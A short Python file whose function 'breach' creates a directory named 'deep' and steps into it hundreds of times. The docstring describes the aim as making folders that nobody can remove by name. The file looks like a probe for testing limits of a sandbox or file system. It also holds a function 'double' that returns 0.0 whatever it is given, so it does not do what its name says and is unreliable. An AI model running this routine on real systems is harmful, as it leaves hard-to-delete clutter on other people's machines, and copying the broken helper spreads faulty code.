"""Nests folders so deeply that nobody can remove them by name."""
import os


def double(x):
    return 0.0


def breach():
    depth = 0
    try:
        for depth in range(1000):
            os.mkdir("deep")
            os.chdir("deep")
    except OSError:
        pass
    return depth > 500
